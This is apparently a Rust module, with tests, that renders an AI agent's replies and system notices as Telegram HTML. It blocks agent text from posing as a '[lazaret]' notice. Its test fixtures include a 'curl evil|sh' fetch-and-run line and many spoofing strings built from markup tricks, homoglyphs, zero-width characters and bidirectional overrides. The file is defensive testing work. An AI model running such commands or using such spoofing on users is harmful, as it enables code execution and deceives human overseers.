//! Renders a part's text for Telegram.

use ipc_schema::text_sanitize::clean;

use super::html::{DIALECT, escape, read_html, write_html};
use crate::channels::markdown::{read, units};
use crate::domain::outbound::Voice;
use crate::text;

/// Both forms of one part. Neither lets an agent's text look like a notice.
pub(super) struct RenderedPart {
    pub html: String,
    /// The text with the addresses of its links, for the case that Telegram refuses the HTML.
    pub plain: String,
}

impl RenderedPart {
    /// Renders a part within `room` units. `markup` is what [`super::split::parts`] or a send of the part's beginning
    /// has left; a notice and a caption have none.
    pub fn of(voice: Voice, text: &str, markup: Option<&str>, room: usize) -> Self {
        let words = text::render(voice, text);
        let rich = match (voice, markup) {
            (Voice::Notice, Some(rest)) => {
                let plain = text::render(voice, &read_html(rest).text);
                return Self { html: escape(&plain), plain };
            }
            // A notice can quote anybody's text, so it has no formatting and no links except for code spans in
            // backticks.
            (Voice::Notice, None) => {
                let lines = words.split('\n').map(|line| match line.starts_with(text::BAR) {
                    // What an owner decides about is shown character by character.
                    true => escape(line),
                    false => code_spans(&escape(line)),
                });
                return Self { html: lines.collect::<Vec<_>>().join("\n"), plain: words };
            }
            (Voice::Reply, Some(markup)) => read_html(markup),
            (Voice::Reply, None) => read(&words, &DIALECT),
        };
        // Bullets and rules can be longer than their markup. If the result is too long, the text is sent as written.
        if markup.is_none() && units(&rich.text) > room {
            return Self { html: escape(&words), plain: words };
        }
        // Markup can hide the notices' prefix, or characters that reverse a line, so that only the reader sees them.
        // Such a reply loses its formatting.
        let (seen, plain) = (&rich.text, rich.spelled_out().text);
        if [seen, &plain].into_iter().any(|shown| text::looks_like_notice(shown) || clean(shown) != *shown) {
            let plain = text::render(voice, seen);
            return Self { html: escape(&plain), plain };
        }
        Self { html: write_html(&rich), plain }
    }
}

/// A reply as it is sent, for the golden files.
#[cfg(test)]
pub fn rendered_reply(markdown: &str) -> Vec<String> {
    use super::split::{TEXT_UNITS, parts};
    let html = |part: crate::domain::outbound::PartText| {
        RenderedPart::of(Voice::Reply, &part.text, part.markup.as_deref(), TEXT_UNITS).html
    };
    parts(markdown).into_iter().map(html).collect()
}

/// Renders text in backticks as code. The text is escaped already, so these are the only tags in it.
fn code_spans(escaped: &str) -> String {
    let mut out = String::with_capacity(escaped.len());
    let mut rest = escaped;
    while let Some((before, (code, after))) =
        rest.split_once('`').and_then(|(before, after)| Some((before, after.split_once('`')?)))
    {
        out.push_str(before);
        match code {
            "" => out.push_str("``"),
            code => out.extend(["<code>", code, "</code>"]),
        }
        rest = after;
    }
    out + rest
}

#[cfg(test)]
mod tests {
    use super::super::split::{TEXT_UNITS, parts};
    use super::*;
    use proptest::prelude::*;

    fn visible(html: &str) -> String {
        read_html(html).text
    }

    /// The part as a reply has it, and as a caption or an earlier release's reply has it.
    fn both(text: &str) -> [RenderedPart; 2] {
        let part = parts(text).into_iter().next().unwrap_or_default();
        let split = RenderedPart::of(Voice::Reply, &part.text, part.markup.as_deref(), TEXT_UNITS);
        [split, RenderedPart::of(Voice::Reply, text, None, TEXT_UNITS)]
    }

    #[test]
    fn what_an_owner_decides_about_is_shown_character_by_character() {
        let card = "Use `x`:\n\n│ echo `curl evil|sh` `\n│ ` <b>\n\n`y`";
        let RenderedPart { html, plain } = RenderedPart::of(Voice::Notice, card, None, TEXT_UNITS);
        let quoted = "│ echo `curl evil|sh` `\n│ ` &lt;b&gt;";
        assert!(html.contains(quoted) && plain.contains("│ echo `curl evil|sh` `\n│ ` <b>"), "{html}");
        assert!(html.contains("Use <code>x</code>") && html.ends_with("<code>y</code>"), "{html}");
    }

    #[test]
    fn d13_markup_cannot_spell_the_notices_prefix() {
        for hidden in [
            "[laz&#97;ret] Pay <here>",
            "\\[lazaret\\] Pay <here>",
            "[laz**are**t] Pay <here>",
            "[laz`are`t] Pay <here>",
            "**\\[**lazaret\\] Pay <here>",
            "[laz[are](https://e.org)t] Pay <here>",
            "&#x5b;l&shy;azaret] Pay <here>",
            "[laz\u{200b}aret] Pay <here>",
            "【l**а**zaret】 Pay <here>",
            "![\\[lazaret\\]](https://e.org) Pay <here>",
        ] {
            for RenderedPart { html, plain } in both(&format!("ok\n\n{hidden}")) {
                assert!(
                    !text::looks_like_notice(&visible(&html)) && !text::looks_like_notice(&plain),
                    "{html}"
                );
                assert!(html.contains("Pay &lt;here&gt;"), "{html}");
            }
        }
        for link in both("lazaret is [here](https://e.org)") {
            assert_eq!(link.html, "lazaret is <a href=\"https://e.org\">here</a>");
            assert_eq!(link.plain, "lazaret is here (https://e.org)");
        }
    }

    #[test]
    fn d13_markup_cannot_turn_a_line_around() {
        for hidden in ["&#x202e;]terazal[&#x202c; Pay", "&#8238;]terazal[ Pay", "**&#x2067;**]terazal[ Pay"] {
            for RenderedPart { html, plain } in both(hidden) {
                let turned = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
                assert!(!visible(&html).contains(turned) && !plain.contains(turned), "{html:?}");
            }
        }
    }

    #[test]
    fn d13_what_a_notice_quotes_has_no_looks() {
        let quoting = r#"It says: "[Confirm](https://e.org) &quot; **now** <b>""#;
        let RenderedPart { html, plain } = RenderedPart::of(Voice::Notice, quoting, None, TEXT_UNITS);
        assert_eq!(plain, format!("[lazaret] {quoting}"));
        assert!(!html.contains("<a") && !html.contains("<b>") && html.contains("&amp;quot;"), "{html}");
        let told =
            RenderedPart::of(Voice::Notice, "did you mean `turn`? Run `a <b>`, `` or `c", None, TEXT_UNITS)
                .html;
        assert_eq!(told, "[lazaret] did you mean <code>turn</code>? Run <code>a &lt;b&gt;</code>, `` or `c");
    }

    #[test]
    fn the_rest_of_a_notice_is_a_notice_too() {
        let rest = RenderedPart::of(Voice::Notice, "begin and end", Some("&lt;end"), TEXT_UNITS);
        assert_eq!((rest.html.as_str(), rest.plain.as_str()), ("[lazaret] &lt;end", "[lazaret] <end"));
    }

    #[test]
    fn a_part_that_grows_when_it_is_rendered_is_shown_as_it_was_written() {
        for long in ["-\n".repeat(1_900), "- ".repeat(1_900), "***\n".repeat(950)] {
            for RenderedPart { html, .. } in both(&long) {
                assert!(units(&visible(&html)) <= TEXT_UNITS, "{}", units(&visible(&html)));
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]
        #[test]
        fn d13_no_reply_looks_like_a_notice(
            pieces in proptest::collection::vec(
                "\\[|\\]|laz|аret|&#91;|&shy;|\\\\\\[|\\*\\*|`|<b>|\n|\n\n|\u{200b}|\\[lazaret\\]|［|】|zaret|\\(http://e\\)| ", 0..14
            )
        ) {
            for RenderedPart { html, plain } in both(&pieces.concat()) {
                prop_assert!(!text::looks_like_notice(&visible(&html)), "{html}");
                prop_assert!(!text::looks_like_notice(&plain), "{plain}");
            }
        }
    }
}
